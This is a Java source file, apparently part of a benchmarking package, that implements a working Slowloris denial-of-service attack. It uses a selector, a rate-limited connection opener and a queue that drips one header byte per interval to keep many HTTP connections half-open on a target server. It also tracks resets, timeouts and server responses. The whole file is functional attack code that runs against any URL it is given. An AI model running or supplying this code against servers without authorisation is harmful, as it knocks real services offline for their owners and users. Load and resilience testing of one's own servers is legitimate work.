package dev.surge.bench;

import java.io.IOException;
import java.io.PrintStream;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayDeque;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;

/**
 * The attack of {@link Slowloris}, on the calling thread: one selector over every connection,
 * a token bucket for opening them, and a queue of open ones in the order their next header
 * bytes fall due.
 */
final class SlowlorisAttack {
    private static final byte[] HEADER = "X-Slowloris: ".getBytes(StandardCharsets.US_ASCII);
    private static final long CONNECT_TIMEOUT_NANOS = TimeUnit.SECONDS.toNanos(10);

    /** One connection: its socket, and when its next header byte is due. */
    private static final class Loris {
        final SocketChannel channel;
        final long startedAt;
        boolean open;
        boolean closed;
        boolean answered;
        long nextByteAt;
        int cursor;

        Loris(SocketChannel channel, long startedAt) {
            this.channel = channel;
            this.startedAt = startedAt;
        }
    }

    private final Slowloris.Settings settings;
    private final SlowlorisCounts counts = new SlowlorisCounts();
    private final ArrayDeque<Loris> connecting = new ArrayDeque<>();
    /** Open connections in the order their next bytes fall due (every one waits the same interval). */
    private final ArrayDeque<Loris> trickling = new ArrayDeque<>();
    private final ByteBuffer readBuffer = ByteBuffer.allocateDirect(4096);
    private final ByteBuffer oneByte = ByteBuffer.allocateDirect(1);
    private final CountDownLatch finished = new CountDownLatch(1);
    private final InetSocketAddress target;
    private final byte[] head;
    private final long intervalNanos;
    private final int connections;
    private final int rate;
    private Path status;
    private volatile boolean stopping;
    private volatile Selector selector;

    SlowlorisAttack(Slowloris.Settings settings, Path status) {
        this.settings = settings;
        this.status = status;
        this.connections = settings.connections();
        this.rate = settings.rate();
        this.target = new InetSocketAddress(settings.url().getHost(), settings.url().getPort());
        String path = settings.url().getRawPath() == null || settings.url().getRawPath().isEmpty() ? "/" : settings.url().getRawPath();
        this.head = ("GET " + path + " HTTP/1.1\r\nHost: " + settings.url().getHost() + ":" + settings.url().getPort() + "\r\n")
                .getBytes(StandardCharsets.US_ASCII);
        this.intervalNanos = (long) (settings.intervalSeconds() * 1e9);
    }

    /** Runs until the duration is up or {@link #stop}, then resets every connection and prints the summary to {@code out}. */
    void run(PrintStream out) throws IOException {
        selector = Selector.open();
        long start = System.nanoTime();
        try {
            run(start);
        } finally {
            closeAll();
            selector.close();
            out.println(counts.json(settings, (System.nanoTime() - start) / 1e9, true));
            out.flush();
            finished.countDown();
        }
    }

    /** Ends the run and waits (a while) until the summary is out. */
    void stop() {
        stopping = true;
        Selector s = selector;
        if (s != null) {
            s.wakeup();
        }
        try {
            finished.await(10, TimeUnit.SECONDS);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private void run(long start) throws IOException {
        long end = start + TimeUnit.SECONDS.toNanos(settings.durationSeconds());
        long lastRefill = start;
        double tokens = 0;
        long nextSecond = start + 1_000_000_000L;
        while (!stopping) {
            long now = System.nanoTime();
            if (now >= end) {
                break;
            }
            tokens = Math.min(Math.max(1, rate / 10.0), tokens + (now - lastRefill) * rate / 1e9);
            lastRefill = now;
            while (tokens >= 1 && counts.open + counts.connecting < connections) {
                tokens--;
                connect(now);
            }
            expireConnects(now);
            trickle(now);
            if (now >= nextSecond) {
                nextSecond += 1_000_000_000L;
                counts.openTimeline.add(counts.open);
                writeStatus((now - start) / 1e9);
            }
            long wait = Math.min(10_000_000L, trickling.isEmpty() ? Long.MAX_VALUE : trickling.peekFirst().nextByteAt - now);
            selector.select(Math.max(1, TimeUnit.NANOSECONDS.toMillis(wait)));
            for (SelectionKey key : selector.selectedKeys()) {
                Loris loris = (Loris) key.attachment();
                if (key.isValid() && key.isConnectable()) {
                    finishConnect(loris, System.nanoTime());
                } else if (key.isValid() && key.isReadable()) {
                    read(loris);
                }
            }
            selector.selectedKeys().clear();
        }
    }

    private void connect(long now) {
        SocketChannel channel = null;
        try {
            channel = SocketChannel.open();
            channel.configureBlocking(false);
            channel.setOption(StandardSocketOptions.TCP_NODELAY, true);
            boolean connected = channel.connect(target);
            Loris loris = new Loris(channel, now);
            counts.connecting++;
            connecting.add(loris);
            if (connected) {
                finishConnect(loris, now);
            } else {
                channel.register(selector, SelectionKey.OP_CONNECT, loris);
            }
        } catch (IOException e) {
            counts.connectFailures++;
            quietClose(channel);
        }
    }

    private void finishConnect(Loris loris, long now) {
        try {
            if (!loris.channel.finishConnect()) {
                return; // not yet: the selector says again when it is
            }
            counts.connecting--;
            loris.open = true;
            counts.opened();
            loris.channel.write(ByteBuffer.wrap(head));
            loris.channel.register(selector, SelectionKey.OP_READ, loris);
            loris.nextByteAt = now + intervalNanos;
            trickling.add(loris);
        } catch (IOException e) {
            if (loris.open) {
                lost(loris, false);
            } else {
                counts.connecting--;
                counts.connectFailures++;
                loris.closed = true;
                quietClose(loris.channel);
            }
        }
    }

    /** Gives up on connection attempts older than the connect timeout. */
    private void expireConnects(long now) {
        while (!connecting.isEmpty()) {
            Loris first = connecting.peekFirst();
            if (first.open || first.closed) {
                connecting.pollFirst();
            } else if (now - first.startedAt > CONNECT_TIMEOUT_NANOS) {
                connecting.pollFirst();
                counts.connecting--;
                counts.connectTimeouts++;
                first.closed = true;
                quietClose(first.channel);
            } else {
                return;
            }
        }
    }

    /** Sends the next header byte on every connection whose byte is due. */
    private void trickle(long now) {
        while (!trickling.isEmpty() && trickling.peekFirst().nextByteAt <= now) {
            Loris loris = trickling.pollFirst();
            if (loris.closed) {
                continue;
            }
            oneByte.clear();
            oneByte.put(loris.cursor < HEADER.length ? HEADER[loris.cursor] : (byte) 'a').flip();
            try {
                if (loris.channel.write(oneByte) == 1) {
                    loris.cursor++;
                    counts.trickled++;
                }
                loris.nextByteAt += intervalNanos;
                trickling.add(loris);
            } catch (IOException e) {
                lost(loris, false);
            }
        }
    }

    /** Reads what the server says: the status of its first answer is counted, the rest ignored. */
    private void read(Loris loris) {
        readBuffer.clear();
        int n;
        try {
            n = loris.channel.read(readBuffer);
        } catch (IOException e) {
            lost(loris, false);
            return;
        }
        if (n < 0) {
            lost(loris, true);
            return;
        }
        if (n > 0 && !loris.answered) {
            loris.answered = true;
            counts.answer(status(readBuffer.flip()));
        }
    }

    /** The status code of a response that starts in {@code b}, or 0 when it does not look like one. */
    static int status(ByteBuffer b) {
        if (b.remaining() < 12 || b.get(0) != 'H' || b.get(8) != ' ') {
            return 0;
        }
        int code = 0;
        for (int i = 9; i < 12; i++) {
            int d = b.get(i) - '0';
            if (d < 0 || d > 9) {
                return 0;
            }
            code = code * 10 + d;
        }
        return code;
    }

    /** An open connection ended: by the server's FIN ({@code byServer}), or a reset or error. */
    private void lost(Loris loris, boolean byServer) {
        if (loris.closed) {
            return;
        }
        loris.closed = true;
        counts.open--;
        if (byServer) {
            counts.closedByServer++;
        } else {
            counts.resets++;
        }
        quietClose(loris.channel);
    }

    private void writeStatus(double elapsed) {
        if (status == null) {
            return;
        }
        try {
            Path tmp = status.resolveSibling(status.getFileName() + ".tmp");
            Files.writeString(tmp, counts.json(settings, elapsed, false) + "\n");
            Files.move(tmp, status, StandardCopyOption.REPLACE_EXISTING, StandardCopyOption.ATOMIC_MOVE);
        } catch (IOException e) {
            System.err.println("slowloris: cannot write " + status + ": " + e.getMessage());
            status = null;
        }
    }

    /** Resets every connection still open (no TIME_WAIT left behind to use up ports). */
    private void closeAll() {
        for (SelectionKey key : selector.keys()) {
            SocketChannel channel = (SocketChannel) key.channel();
            try {
                channel.setOption(StandardSocketOptions.SO_LINGER, 0);
            } catch (IOException e) {
                // closing it anyway
            }
            quietClose(channel);
        }
    }

    private static void quietClose(SocketChannel channel) {
        if (channel == null) {
            return;
        }
        try {
            channel.close();
        } catch (IOException e) {
            // nothing to do
        }
    }
}
